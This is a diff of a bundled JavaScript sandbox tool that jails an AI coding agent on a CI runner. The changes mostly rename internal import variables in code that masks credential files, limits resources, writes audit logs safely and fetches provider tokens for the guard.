-  const out = ["### Files that could not be read", ""];
+  const out = ["### Errors", ""];
   let used = bytes(out.join("\n"));
   let shown2 = 0;
   for (const e of errors) {
@@ -7677,7 +9559,7 @@ function openGuardFile(file, agentWritable, uid, what) {
   const absolute = import_node_path6.default.resolve(file);
   let parent;
   try {
-    parent = import_node_fs9.default.realpathSync(import_node_path6.default.dirname(absolute));
+    parent = import_node_fs8.default.realpathSync(import_node_path6.default.dirname(absolute));
   } catch (err) {
     throw new GuardError("audit", `${what} ${absolute}: its folder cannot be resolved (${err.code ?? err.message})`);
   }
@@ -7687,19 +9569,19 @@ function openGuardFile(file, agentWritable, uid, what) {
       throw new GuardError("audit", `${what} ${absolute} is inside ${dir}, which the agent can write; write it outside (e.g. "$RUNNER_TEMP/agent-guard-audit.jsonl")`);
     }
   }
-  const { O_WRONLY, O_APPEND, O_CREAT, O_NOFOLLOW, O_NONBLOCK } = import_node_fs9.default.constants;
+  const { O_WRONLY, O_APPEND, O_CREAT, O_NOFOLLOW, O_NONBLOCK } = import_node_fs8.default.constants;
   let fd;
   try {
-    fd = import_node_fs9.default.openSync(real, O_WRONLY | O_APPEND | O_CREAT | O_NOFOLLOW | O_NONBLOCK, 384);
+    fd = import_node_fs8.default.openSync(real, O_WRONLY | O_APPEND | O_CREAT | O_NOFOLLOW | O_NONBLOCK, 384);
   } catch (err) {
     const code3 = err.code;
     const why = code3 === "ELOOP" ? "is a symlink" : `cannot be opened (${code3 ?? err.message})`;
     throw new GuardError("audit", `${what} ${absolute} ${why}; refusing to write through it`);
   }
-  const st = import_node_fs9.default.fstatSync(fd);
+  const st = import_node_fs8.default.fstatSync(fd);
   const problem = !st.isFile() ? "is not a regular file" : st.nlink !== 1 ? `has ${st.nlink} hard links` : uid >= 0 && st.uid !== uid ? `is owned by uid ${st.uid}, not by the guard's uid ${uid}` : void 0;
   if (problem) {
-    import_node_fs9.default.closeSync(fd);
+    import_node_fs8.default.closeSync(fd);
     throw new GuardError("audit", `${what} ${absolute} ${problem}; refusing to write to it`);
   }
   return fd;
@@ -7712,11 +9594,11 @@ function summaryText(text, max = SUMMARY_CELL) {
   const unlinked = clipped.replace(/:\/\//g, ":\u200B//").replace(/www\./gi, (w) => `${w.slice(0, 3)}\u200B.`).replace(/@/g, "@\u200B");
   return md(unlinked).replace(/::/g, ":\u200B:");
 }
-var import_node_fs9, import_node_path6, SUMMARY_ROWS, SUMMARY_CELL, AuditLog;
+var import_node_fs8, import_node_path6, SUMMARY_ROWS, SUMMARY_CELL, AuditLog;
 var init_audit = __esm({
   "src/guard/audit.ts"() {
     "use strict";
-    import_node_fs9 = __toESM(require("node:fs"));
+    import_node_fs8 = __toESM(require("node:fs"));
     import_node_path6 = __toESM(require("node:path"));
     init_summary();
     init_errors();
@@ -7731,10 +9613,10 @@ var init_audit = __esm({
       }
       add(record) {
         this.records.push(record);
-        if (this.fd !== void 0) import_node_fs9.default.writeSync(this.fd, inertJson(record) + "\n");
+        if (this.fd !== void 0) import_node_fs8.default.writeSync(this.fd, inertJson(record) + "\n");
       }
       close() {
-        if (this.fd !== void 0) import_node_fs9.default.closeSync(this.fd);
+        if (this.fd !== void 0) import_node_fs8.default.closeSync(this.fd);
         this.fd = void 0;
       }
       totals() {
@@ -7859,8 +9741,8 @@ function addReal(found, p) {
   let real;
   let st;
   try {
-    real = import_node_fs10.default.realpathSync(p);
-    st = import_node_fs10.default.statSync(real);
+    real = import_node_fs9.default.realpathSync(p);
+    st = import_node_fs9.default.statSync(real);
   } catch {
     return;
   }
@@ -7882,7 +9764,7 @@ function findCredentialFiles(workspace2, env, rules = credentialRules()) {
     if (!dir || wanted.length === 0) continue;
     let entries = [];
     try {
-      entries = import_node_fs10.default.readdirSync(dir, { withFileTypes: true });
+      entries = import_node_fs9.default.readdirSync(dir, { withFileTypes: true });
     } catch {
       continue;
     }
@@ -7900,11 +9782,11 @@ function findCredentialFiles(workspace2, env, rules = credentialRules()) {
 function homeCredentialPaths(home, rules = credentialRules()) {
   return rules.home.map((p) => import_node_path7.default.join(home, p));
 }
-var import_node_fs10, import_node_path7, import_yaml13, PLACES, FILE, cached2;
+var import_node_fs9, import_node_path7, import_yaml13, PLACES, FILE, cached2;
 var init_credentialFiles = __esm({
   "src/guard/credentialFiles.ts"() {
     "use strict";
-    import_node_fs10 = __toESM(require("node:fs"));
+    import_node_fs9 = __toESM(require("node:fs"));
     import_node_path7 = __toESM(require("node:path"));
     import_yaml13 = __toESM(require_dist());
     init_credential_files();
@@ -8228,7 +10110,7 @@ var init_refreshingToken = __esm({
 });
 
 // src/guard/providers/googleAdc.ts
-function str3(json, key2, where) {
+function str2(json, key2, where) {
   const value = json[key2];
   if (typeof value !== "string" || !value) throw new TokenEndpointError(`${where} has no ${key2}`);
   return value;
@@ -8243,8 +10125,8 @@ async function serviceAccount(key2, scopes, now) {
   const issued = now();
   const iat = Math.floor(issued / 1e3);
   const header = base64url(JSON.stringify({ alg: "RS256", typ: "JWT", ...typeof key2.private_key_id === "string" ? { kid: key2.private_key_id } : {} }));
-  const claims = base64url(JSON.stringify({ iss: str3(key2, "client_email", "the key"), scope: scopes.join(" "), aud: tokenUri.href, iat, exp: iat + 3600 }));
-  const signature = import_node_crypto3.default.createSign("RSA-SHA256").update(`${header}.${claims}`).sign(str3(key2, "private_key", "the key"));
+  const claims = base64url(JSON.stringify({ iss: str2(key2, "client_email", "the key"), scope: scopes.join(" "), aud: tokenUri.href, iat, exp: iat + 3600 }));
+  const signature = import_node_crypto3.default.createSign("RSA-SHA256").update(`${header}.${claims}`).sign(str2(key2, "private_key", "the key"));
   const assertion = `${header}.${claims}.${base64url(signature)}`;
   const res = await requestJson(tokenUri, { method: "POST", headers: FORM_HEADERS, body: form({ grant_type: JWT_BEARER, assertion }) });
   return accessToken(res, `the token endpoint ${tokenUri.origin}`, issued);
@@ -8252,30 +10134,30 @@ async function serviceAccount(key2, scopes, now) {
 async function subjectToken(source) {
   const format = source.format ?? { type: "text" };
   let raw;
-  if (typeof source.file === "string") raw = import_node_fs11.default.readFileSync(source.file, "utf8");
+  if (typeof source.file === "string") raw = import_node_fs10.default.readFileSync(source.file, "utf8");
   else if (typeof source.url === "string") {
     const res = await requestJson(checkEndpoint(source.url, "credential_source.url"), { method: "GET", headers: source.headers ?? {} });
     if (res.status !== 200) throw endpointError("credential_source.url", res);
     raw = JSON.stringify(res.json);
   } else throw new TokenEndpointError("credential_source needs a file or a url (executable sources are not run by the guard)");
   if (format.type !== "json") return raw.trim();
-  const value = JSON.parse(raw)[str3(format, "subject_token_field_name", "credential_source.format")];
+  const value = JSON.parse(raw)[str2(format, "subject_token_field_name", "credential_source.format")];
   if (typeof value !== "string") throw new TokenEndpointError("the subject token field is missing from credential_source");
   return value;
 }
 async function externalAccount(cred, scopes, now) {
   const issued = now();
-  const sts = checkEndpoint(str3(cred, "token_url", "the external_account file"), "token_url");
+  const sts = checkEndpoint(str2(cred, "token_url", "the external_account file"), "token_url");
   const impersonate = typeof cred.service_account_impersonation_url === "string" ? cred.service_account_impersonation_url : void 0;
   const res = await requestJson(sts, {
     method: "POST",
     headers: FORM_HEADERS,
     body: form({
       grant_type: TOKEN_EXCHANGE,
-      audience: str3(cred, "audience", "the external_account file"),
+      audience: str2(cred, "audience", "the external_account file"),
       scope: impersonate ? "https://www.googleapis.com/auth/cloud-platform" : scopes.join(" "),
       requested_token_type: "urn:ietf:params:oauth:token-type:access_token",
-      subject_token_type: str3(cred, "subject_token_type", "the external_account file"),
+      subject_token_type: str2(cred, "subject_token_type", "the external_account file"),
       subject_token: await subjectToken(cred.credential_source ?? {})
     })
   });
@@ -8299,14 +10181,14 @@ async function authorizedUser(cred, now) {
   const res = await requestJson(url, {
     method: "POST",
     headers: FORM_HEADERS,
-    body: form({ grant_type: "refresh_token", client_id: str3(cred, "client_id", "the file"), client_secret: str3(cred, "client_secret", "the file"), refresh_token: str3(cred, "refresh_token", "the file") })
+    body: form({ grant_type: "refresh_token", client_id: str2(cred, "client_id", "the file"), client_secret: str2(cred, "client_secret", "the file"), refresh_token: str2(cred, "refresh_token", "the file") })
   });
   return accessToken(res, `the token endpoint ${url.origin}`, issued);
 }
 function readCredentials(file) {
   let json;
   try {
-    json = JSON.parse(import_node_fs11.default.readFileSync(file, "utf8"));
+    json = JSON.parse(import_node_fs10.default.readFileSync(file, "utf8"));
   } catch (err) {
     throw new TokenEndpointError(`cannot read the Google credentials file ${file}: ${err.code ?? "not JSON"}`);
   }
@@ -8341,12 +10223,12 @@ function googleAdcAuthorizer(spec, env, now = Date.now) {
     authorize: async (req2) => applyHeaderTemplates(req2, await token.get(), BEARER_HEADER)
   };
 }
-var import_node_crypto3, import_node_fs11, GOOGLE_TOKEN_URL, TOKEN_EXCHANGE, JWT_BEARER, BEARER_HEADER, base64url, form, FORM_HEADERS;
+var import_node_crypto3, import_node_fs10, GOOGLE_TOKEN_URL, TOKEN_EXCHANGE, JWT_BEARER, BEARER_HEADER, base64url, form, FORM_HEADERS;
 var init_googleAdc = __esm({
   "src/guard/providers/googleAdc.ts"() {
     "use strict";
     import_node_crypto3 = __toESM(require("node:crypto"));
-    import_node_fs11 = __toESM(require("node:fs"));
+    import_node_fs10 = __toESM(require("node:fs"));
     init_authorizer();
     init_http();
     init_refreshingToken();
@@ -8381,7 +10263,7 @@ function identitySource(env, fileEnv) {
     return {
       describe: `${fileEnv} (${file})`,
       // Read at every exchange: the action that wrote it rewrites it before it expires.
-      fetch: async () => checkJwt(import_node_fs12.default.readFileSync(file, "utf8").trim())
+      fetch: async () => checkJwt(import_node_fs11.default.readFileSync(file, "utf8").trim())
     };
   }
   return void 0;
@@ -8392,11 +10274,11 @@ function checkJwt(text) {
   }
   return text;
 }
-var import_node_fs12, MAX_JWT;
+var import_node_fs11, MAX_JWT;
 var init_githubOidc = __esm({
   "src/guard/providers/githubOidc.ts"() {
     "use strict";
-    import_node_fs12 = __toESM(require("node:fs"));
+    import_node_fs11 = __toESM(require("node:fs"));
     init_http();
     MAX_JWT = 16 * 1024;
   }
@@ -8910,11 +10792,11 @@ var init_gitConfig = __esm({
 function isWithin2(child, parent) {
   return child === parent || child.startsWith(parent === "/" ? "/" : `${parent}/`);
 }
-var import_node_fs13, import_node_path8, MAX_PER_DIR, MAX_DEPTH4, HEAD, ExposeError, InstallExposer;
+var import_node_fs12, import_node_path8, MAX_PER_DIR, MAX_DEPTH4, HEAD, ExposeError, InstallExposer;
 var init_installs = __esm({
   "src/guard/installs.ts"() {
     "use strict";
-    import_node_fs13 = __toESM(require("node:fs"));
+    import_node_fs12 = __toESM(require("node:fs"));
     import_node_path8 = __toESM(require("node:path"));
     MAX_PER_DIR = 256;
     MAX_DEPTH4 = 8;
@@ -8935,7 +10817,7 @@ var init_installs = __esm({
         if (!this.stats.has(p)) {
           let st;
           try {
-            st = import_node_fs13.default.lstatSync(p, { throwIfNoEntry: false });
+            st = import_node_fs12.default.lstatSync(p, { throwIfNoEntry: false });
           } catch {
             st = void 0;
           }
@@ -8967,7 +10849,7 @@ var init_installs = __esm({
           const st = this.lstat(next);
           if (!st) throw new ExposeError(`${next} does not exist`);
           if (st.isSymbolicLink()) {
-            const link = import_node_fs13.default.readlinkSync(next);
+            const link = import_node_fs12.default.readlinkSync(next);
             if (this.isMasked(next)) found.symlinks.push([next, link]);
             const target = this.follow(import_node_path8.default.resolve(cur, link), depth + 1, found);
             if (this.ctx.shown.some((s) => isWithin2(next, s)) && this.isMasked(target)) {
@@ -8992,17 +10874,17 @@ var init_installs = __esm({
         const real = this.follow(python, depth + 1, found);
         if (!this.isMasked(real)) return;
         const prefix = import_node_path8.default.dirname(import_node_path8.default.dirname(real));
-        this.addRoot(import_node_fs13.default.existsSync(import_node_path8.default.join(prefix, "lib")) ? prefix : real, found);
+        this.addRoot(import_node_fs12.default.existsSync(import_node_path8.default.join(prefix, "lib")) ? prefix : real, found);
       }
       /** The interpreter on a script's `#!` line, when it lives in a masked folder. */
       shebang(file, depth, found) {
         let head = "";
         try {
-          const fd = import_node_fs13.default.openSync(file, "r");
+          const fd = import_node_fs12.default.openSync(file, "r");
           try {
-            head = HEAD.subarray(0, import_node_fs13.default.readSync(fd, HEAD, 0, HEAD.length, 0)).toString("latin1");
+            head = HEAD.subarray(0, import_node_fs12.default.readSync(fd, HEAD, 0, HEAD.length, 0)).toString("latin1");
           } finally {
-            import_node_fs13.default.closeSync(fd);
+            import_node_fs12.default.closeSync(fd);
           }
         } catch {
           return;
@@ -9050,13 +10932,13 @@ var init_installs = __esm({
         let entries;
         try {
           real = this.follow(dir, 0, reach);
-          entries = import_node_fs13.default.readdirSync(real, { withFileTypes: true });
+          entries = import_node_fs12.default.readdirSync(real, { withFileTypes: true });
         } catch {
           return;
         }
         entries.sort((a, b) => a.name < b.name ? -1 : 1);
         const programs = entries.slice(0, MAX_PER_DIR).filter((e) => {
-          const st = e.isFile() || e.isSymbolicLink() ? import_node_fs13.default.statSync(import_node_path8.default.join(real, e.name), { throwIfNoEntry: false }) : void 0;
+          const st = e.isFile() || e.isSymbolicLink() ? import_node_fs12.default.statSync(import_node_path8.default.join(real, e.name), { throwIfNoEntry: false }) : void 0;
           return st?.isFile() && (st.mode & 73) !== 0;
         });
         const whole = entries.length <= MAX_PER_DIR && entries.every((e) => e.isSymbolicLink() || programs.includes(e)) && !this.refusal(real);
@@ -9394,15 +11276,15 @@ function jailStartScript(cgroups, nonce, rootOnlyFiles, made = false) {
 function makeCgroupsDirectly(cgroups) {
   for (const cg of cgroups) {
     try {
-      import_node_fs14.default.mkdirSync(cg.path);
+      import_node_fs13.default.mkdirSync(cg.path);
     } catch (err) {
       throw new GuardError("limits", `cannot limit the jail's resources, the agent did not run: cannot create the cgroup ${cg.path} (${err.message})`);
     }
     for (const w of cg.writes) {
       const file = import_node_path9.default.join(cg.path, w.file);
-      if (w.optional && !import_node_fs14.default.existsSync(file)) continue;
+      if (w.optional && !import_node_fs13.default.existsSync(file)) continue;
       try {
-        import_node_fs14.default.writeFileSync(file, w.value);
+        import_node_fs13.default.writeFileSync(file, w.value);
       } catch (err) {
         throw new GuardError("limits", `cannot limit the jail's resources, the agent did not run: cannot set ${w.file}=${w.value} in ${cg.path} (${err.message})`);
       }
@@ -9423,14 +11305,14 @@ function cgroupCleanupScript(cgroups) {
 }
 async function removeCgroupsDirectly(cgroups) {
   for (const cg of cgroups) {
-    for (let attempt = 0; import_node_fs14.default.existsSync(cg.path); attempt++) {
+    for (let attempt = 0; import_node_fs13.default.existsSync(cg.path); attempt++) {
       try {
-        if (import_node_fs14.default.existsSync(import_node_path9.default.join(cg.path, "cgroup.kill"))) import_node_fs14.default.writeFileSync(import_node_path9.default.join(cg.path, "cgroup.kill"), "1");
+        if (import_node_fs13.default.existsSync(import_node_path9.default.join(cg.path, "cgroup.kill"))) import_node_fs13.default.writeFileSync(import_node_path9.default.join(cg.path, "cgroup.kill"), "1");
         else for (const pid of (readOrUndefined(import_node_path9.default.join(cg.path, "cgroup.procs")) ?? "").split("\n").filter(Boolean)) process.kill(Number(pid), "SIGKILL");
       } catch {
       }
       try {
-        import_node_fs14.default.rmdirSync(cg.path);
+        import_node_fs13.default.rmdirSync(cg.path);
       } catch (err) {
         if (attempt >= 100) return `cannot remove the cgroup ${cg.path}: ${err.code}`;
         await new Promise((r) => setTimeout(r, 20));
@@ -9443,11 +11325,11 @@ function describeLimits(limits) {
   const size = (n) => n % GIB === 0 ? `${n / GIB} GiB` : `${Math.round(n / MIB)} MiB`;
   return `memory ${limits.memory === void 0 ? "unlimited" : size(limits.memory)}, pids ${limits.pids ?? "unlimited"}, /tmp ${size(limits.scratchSize)}`;
 }
-var import_node_fs14, import_node_os, import_node_path9, MIB, GIB, DEFAULT_PIDS, DEFAULT_TMPFS, SHM_SIZE, MASK_TMPFS_SIZE, readOrUndefined;
+var import_node_fs13, import_node_os, import_node_path9, MIB, GIB, DEFAULT_PIDS, DEFAULT_TMPFS, SHM_SIZE, MASK_TMPFS_SIZE, readOrUndefined;
 var init_limits = __esm({
   "src/guard/limits.ts"() {
     "use strict";
-    import_node_fs14 = __toESM(require("node:fs"));
+    import_node_fs13 = __toESM(require("node:fs"));
     import_node_os = __toESM(require("node:os"));
     import_node_path9 = __toESM(require("node:path"));
     init_errors();
@@ -9459,7 +11341,7 @@ var init_limits = __esm({
     MASK_TMPFS_SIZE = MIB;
     readOrUndefined = (file) => {
       try {
-        return import_node_fs14.default.readFileSync(file, "utf8");
+        return import_node_fs13.default.readFileSync(file, "utf8");
       } catch {
         return void 0;
       }
@@ -9469,13 +11351,13 @@ var init_limits = __esm({
 
 // src/guard/jail.ts
 function findExecutable(name, searchPath) {
-  if (name.includes("/")) return import_node_fs15.default.existsSync(name) ? import_node_path10.default.resolve(name) : void 0;
+  if (name.includes("/")) return import_node_fs14.default.existsSync(name) ? import_node_path10.default.resolve(name) : void 0;
   for (const dir of (searchPath ?? "").split(":")) {
     if (!dir.startsWith("/")) continue;
     const candidate = import_node_path10.default.join(dir, name);
     try {
-      import_node_fs15.default.accessSync(candidate, import_node_fs15.default.constants.X_OK);
-      if (import_node_fs15.default.statSync(candidate).isFile()) return candidate;
+      import_node_fs14.default.accessSync(candidate, import_node_fs14.default.constants.X_OK);
+      if (import_node_fs14.default.statSync(candidate).isFile()) return candidate;
     } catch {
     }
   }
@@ -9488,8 +11370,8 @@ function isWithin3(child, parent) {
 function realDir(p) {
   if (!p) return void 0;
   try {
-    const real = import_node_fs15.default.realpathSync(p);
-    return import_node_fs15.default.statSync(real).isDirectory() ? real : void 0;
+    const real = import_node_fs14.default.realpathSync(p);
+    return import_node_fs14.default.statSync(real).isDirectory() ? real : void 0;
   } catch {
     return void 0;
   }
@@ -9498,12 +11380,12 @@ function findRunnerRoot() {
   let pid = process.ppid;
   for (let i = 0; i < 32 && pid > 1; i++) {
     try {
-      const exe = import_node_fs15.default.readlinkSync(`/proc/${pid}/exe`);
+      const exe = import_node_fs14.default.readlinkSync(`/proc/${pid}/exe`);
       if (/\/Runner\.(Worker|Listener)$/.test(exe)) return import_node_path10.default.dirname(import_node_path10.default.dirname(exe));
     } catch {
     }
     try {
-      const stat = import_node_fs15.default.readFileSync(`/proc/${pid}/stat`, "utf8");
+      const stat = import_node_fs14.default.readFileSync(`/proc/${pid}/stat`, "utf8");
       pid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
     } catch {
       break;
@@ -9532,12 +11414,12 @@ function maskedDirectories(facts) {
     if (!candidate) continue;
     let stat;
     try {
-      stat = import_node_fs15.default.lstatSync(candidate);
+      stat = import_node_fs14.default.lstatSync(candidate);
     } catch {
       continue;
     }
     if (stat.isSymbolicLink() || !stat.isDirectory()) continue;
-    const real = import_node_fs15.default.realpathSync(candidate);
+    const real = import_node_fs14.default.realpathSync(candidate);
     if (out.some((m) => isWithin3(real, m))) continue;
     out.push(real);
   }
@@ -9546,7 +11428,7 @@ function maskedDirectories(facts) {
 function hostUnixSockets() {
   let text = "";
   try {
-    text = import_node_fs15.default.readFileSync("/proc/net/unix", "utf8");
+    text = import_node_fs14.default.readFileSync("/proc/net/unix", "utf8");
   } catch {
     return [];
   }
@@ -9568,7 +11450,7 @@ function resolveWorkspace(facts, mode, cwd) {
     if (isWithin3(g, dir)) throw new GuardError("filesystem", `workspace ${dir} contains ${g}, which the agent must not see; run from the repository folder`);
   }
   if (facts.uid !== 0) return { dir, agentUid: facts.uid, agentGid: facts.gid };
-  const st = import_node_fs15.default.statSync(dir);
+  const st = import_node_fs14.default.statSync(dir);
   if (st.uid !== 0) return { dir, agentUid: st.uid, agentGid: st.gid === 0 ? st.uid : st.gid };
   if (mode === "ro") return { dir, agentUid: NOBODY, agentGid: NOBODY };
   throw new GuardError(
@@ -9579,7 +11461,7 @@ function resolveWorkspace(facts, mode, cwd) {
 function passwdWithAgent(uid, gid) {
   const read2 = (f) => {
     try {
-      return import_node_fs15.default.readFileSync(f, "utf8");
+      return import_node_fs14.default.readFileSync(f, "utf8");
     } catch {
       return "";
     }
@@ -9596,7 +11478,7 @@ function gitConfigFiles(gitDir) {
     if (depth > 6) return;
     let entries;
     try {
-      entries = import_node_fs15.default.readdirSync(dir, { withFileTypes: true });
+      entries = import_node_fs14.default.readdirSync(dir, { withFileTypes: true });
     } catch {
       return;
     }
@@ -9690,10 +11572,10 @@ function planJail(input, workspace2) {
   if (realDir(gitDir)) {
     for (const file of gitConfigFiles(gitDir)) {
       const copy = import_node_path10.default.join(privateDir, `gitconfig-${gitIndex++}`);
-      import_node_fs15.default.writeFileSync(copy, sanitizeGitConfig(import_node_fs15.default.readFileSync(file, "utf8"), input.secrets), { mode: 420 });
+      import_node_fs14.default.writeFileSync(copy, sanitizeGitConfig(import_node_fs14.default.readFileSync(file, "utf8"), input.secrets), { mode: 420 });
       args.push("--ro-bind", copy, file);
     }
-    for (const entry of import_node_fs15.default.readdirSync(gitDir)) {
+    for (const entry of import_node_fs14.default.readdirSync(gitDir)) {
       if (/credential/i.test(entry)) args.push("--ro-bind", "/dev/null", import_node_path10.default.join(gitDir, entry));
     }
     if (realDir(import_node_path10.default.join(gitDir, "hooks"))) args.push("--ro-bind", import_node_path10.default.join(gitDir, "hooks"), import_node_path10.default.join(gitDir, "hooks"));
@@ -9712,15 +11594,15 @@ function planJail(input, workspace2) {
   for (const socket of hostUnixSockets()) {
     if (isMasked(socket) || socket.startsWith("/proc/") || socket.startsWith("/dev/")) continue;
     try {
-      if (import_node_fs15.default.lstatSync(socket).isSocket()) args.push("--ro-bind", "/dev/null", socket);
+      if (import_node_fs14.default.lstatSync(socket).isSocket()) args.push("--ro-bind", "/dev/null", socket);
     } catch {
     }
   }
   const ids = passwdWithAgent(workspace2.agentUid, workspace2.agentGid);
-  import_node_fs15.default.writeFileSync(import_node_path10.default.join(privateDir, "passwd"), ids.passwd, { mode: 420 });
-  import_node_fs15.default.writeFileSync(import_node_path10.default.join(privateDir, "group"), ids.group, { mode: 420 });
+  import_node_fs14.default.writeFileSync(import_node_path10.default.join(privateDir, "passwd"), ids.passwd, { mode: 420 });
+  import_node_fs14.default.writeFileSync(import_node_path10.default.join(privateDir, "group"), ids.group, { mode: 420 });
   args.push("--ro-bind", import_node_path10.default.join(privateDir, "passwd"), "/etc/passwd", "--ro-bind", import_node_path10.default.join(privateDir, "group"), "/etc/group");
-  if (!import_node_fs15.default.existsSync("/home")) throw new GuardError("filesystem", "/home does not exist; cannot place the agent HOME");
+  if (!import_node_fs14.default.existsSync("/home")) throw new GuardError("filesystem", "/home does not exist; cannot place the agent HOME");
   args.push("--perms", "0700", "--dir", AGENT_HOME);
   const nonce = import_node_crypto5.default.randomBytes(16).toString("hex");
   const bridgeUid = workspace2.agentUid === BRIDGE_UID ? BRIDGE_UID - 1 : BRIDGE_UID;
@@ -9739,17 +11621,17 @@ function planJail(input, workspace2) {
     lifeline: `${JAIL_DIR}/lifeline.sock`,
     setpriv: findExecutable("setpriv", "/usr/bin:/bin:/usr/sbin:/sbin"),
     canary: {
-      hostNamespaces: Object.fromEntries(["pid", "net", "mnt", "ipc", "uts"].map((ns) => [ns, import_node_fs15.default.readlinkSync(`/proc/self/ns/${ns}`)])),
+      hostNamespaces: Object.fromEntries(["pid", "net", "mnt", "ipc", "uts"].map((ns) => [ns, import_node_fs14.default.readlinkSync(`/proc/self/ns/${ns}`)])),
       hostLoopbackPort: input.hostLoopbackPort,
       masked: [...masked, ...credentials.dirs.filter(visible)],
       exposed: exposed.filter((p) => masked.some((m) => isWithin3(p, m) && p !== m)),
       emptyFiles: credentials.files.filter(visible),
-      mustNotExist: ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/resolve/io.systemd.Resolve", ...homeCreds.filter((f) => import_node_fs15.default.existsSync(f))]
+      mustNotExist: ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/resolve/io.systemd.Resolve", ...homeCreds.filter((f) => import_node_fs14.default.existsSync(f))]
     }
   };
-  import_node_fs15.default.writeFileSync(import_node_path10.default.join(privateDir, "init.js"), jailInitSource(), { mode: 420 });
+  import_node_fs14.default.writeFileSync(import_node_path10.default.join(privateDir, "init.js"), jailInitSource(), { mode: 420 });
   const configFile = import_node_path10.default.join(privateDir, "config.json");
-  import_node_fs15.default.writeFileSync(configFile, JSON.stringify(config), { mode: 384 });
+  import_node_fs14.default.writeFileSync(configFile, JSON.stringify(config), { mode: 384 });
   args.push("--dir", JAIL_DIR);
   args.push("--ro-bind", import_node_path10.default.join(privateDir, "init.js"), `${JAIL_DIR}/init.js`);
   args.push("--ro-bind", configFile, `${JAIL_DIR}/config.json`);
@@ -9792,8 +11674,8 @@ function planJail(input, workspace2) {
   return { bwrapArgs: args, config, agentUid: workspace2.agentUid, exposure, rootOnlyFiles: [configFile] };
 }
 function makePrivateDir() {
-  const dir = import_node_fs15.default.mkdtempSync(import_node_path10.default.join(import_node_os2.default.tmpdir(), "agent-guard-"));
-  import_node_fs15.default.chmodSync(dir, 448);
+  const dir = import_node_fs14.default.mkdtempSync(import_node_path10.default.join(import_node_os2.default.tmpdir(), "agent-guard-"));
+  import_node_fs14.default.chmodSync(dir, 448);
   return dir;
 }
 function findElevation(facts) {
@@ -9807,13 +11689,13 @@ function findElevation(facts) {
   }
   return { kind: "sudo", sudo };
 }
-var import_node_child_process, import_node_crypto5, import_node_fs15, import_node_os2, import_node_path10, JAIL_DIR, NOBODY, BRIDGE_UID, SCRATCH_MASKS;
+var import_node_child_process, import_node_crypto5, import_node_fs14, import_node_os2, import_node_path10, JAIL_DIR, NOBODY, BRIDGE_UID, SCRATCH_MASKS;
 var init_jail = __esm({
   "src/guard/jail.ts"() {
     "use strict";
     import_node_child_process = require("node:child_process");
     import_node_crypto5 = __toESM(require("node:crypto"));
-    import_node_fs15 = __toESM(require("node:fs"));
+    import_node_fs14 = __toESM(require("node:fs"));
     import_node_os2 = __toESM(require("node:os"));
     import_node_path10 = __toESM(require("node:path"));
     init_credentialFiles();
@@ -9833,7 +11715,7 @@ var init_jail = __esm({
 // src/guard/doctor.ts
 function read(file) {
   try {
-    return import_node_fs16.default.readFileSync(file, "utf8").trim();
+    return import_node_fs15.default.readFileSync(file, "utf8").trim();
   } catch {
     return void 0;
   }
@@ -9849,8 +11731,8 @@ function sudoWorks() {
   }
 }
 function inContainer() {
-  if (import_node_fs16.default.existsSync("/.dockerenv")) return "Docker (/.dockerenv)";
-  if (import_node_fs16.default.existsSync("/run/.containerenv")) return "Podman (/run/.containerenv)";
+  if (import_node_fs15.default.existsSync("/.dockerenv")) return "Docker (/.dockerenv)";
+  if (import_node_fs15.default.existsSync("/run/.containerenv")) return "Podman (/run/.containerenv)";
   const cgroup = read("/proc/1/cgroup") ?? "";
   if (/docker|kubepods|containerd|lxc/.test(cgroup)) return `a container (cgroup ${cgroup.split("\n")[0]})`;
   return void 0;
@@ -9895,7 +11777,7 @@ async function doctorReport(env) {
     detail: `max_user_namespaces=${userns ?? "unknown"}; apparmor_restrict_unprivileged_userns=${apparmor ?? "absent"}. Not needed: the jail is built as root, so the AppArmor restriction does not apply and is left untouched.`
   });
   const yama = read("/proc/sys/kernel/yama/ptrace_scope");
-  checks.push({ name: "kernel", ok: true, detail: `Linux ${import_node_os3.default.release()}; Yama ptrace_scope=${yama ?? "absent"} (the pid namespace hides host processes either way); cgroup ${import_node_fs16.default.existsSync("/sys/fs/cgroup/cgroup.controllers") ? "v2" : "v1 or none"}` });
+  checks.push({ name: "kernel", ok: true, detail: `Linux ${import_node_os3.default.release()}; Yama ptrace_scope=${yama ?? "absent"} (the pid namespace hides host processes either way); cgroup ${import_node_fs15.default.existsSync("/sys/fs/cgroup/cgroup.controllers") ? "v2" : "v1 or none"}` });
   const limits = resolveLimits({});
   try {
     const dirs = planCgroups(limits, "agent-guard-<run>", read("/proc/self/mountinfo") ?? "", read("/proc/self/cgroup") ?? "");
@@ -9912,11 +11794,11 @@ async function doctorReport(env) {
     const started = Date.now();
     try {
       const { runGuarded: runGuarded2 } = await Promise.resolve().then(() => (init_command(), command_exports));
-      const cwd = import_node_fs16.default.mkdtempSync(import_node_path11.default.join(import_node_os3.default.tmpdir(), "agent-guard-doctor-"));
+      const cwd = import_node_fs15.default.mkdtempSync(import_node_path11.default.join(import_node_os3.default.tmpdir(), "agent-guard-doctor-"));
       const result = await runGuarded2(
         { providers: [], allowHosts: [], passEnv: [], workspaceMode: "ro", allowProviderFetch: false, command: ["true"] },
         { stdout: sink(), stderr: sink(), env: { PATH: env.PATH, HOME: env.HOME }, cwd }
-      ).finally(() => import_node_fs16.default.rmSync(cwd, { recursive: true, force: true }));
+      ).finally(() => import_node_fs15.default.rmSync(cwd, { recursive: true, force: true }));
       trial = result.exitCode === 0 ? { name: "trial jail", ok: true, detail: `\`true\` ran in a jail in ${Date.now() - started} ms; the canary found no network and no host` } : { name: "trial jail", ok: false, detail: `\`true\` exited ${result.exitCode} in the jail` };
     } catch (err) {
       trial = { name: "trial jail", ok: false, detail: err instanceof GuardError ? `${err.layer}: ${err.message}` : String(err) };
@@ -9933,12 +11815,12 @@ async function doctorReport(env) {
   ].join("\n");
   return { canRun, checks, verdict, text };
 }
-var import_node_child_process2, import_node_fs16, import_node_os3, import_node_path11, import_node_stream, sink;
+var import_node_child_process2, import_node_fs15, import_node_os3, import_node_path11, import_node_stream, sink;
 var init_doctor = __esm({
   "src/guard/doctor.ts"() {
     "use strict";
     import_node_child_process2 = require("node:child_process");
-    import_node_fs16 = __toESM(require("node:fs"));
+    import_node_fs15 = __toESM(require("node:fs"));
     import_node_os3 = __toESM(require("node:os"));
     import_node_path11 = __toESM(require("node:path"));
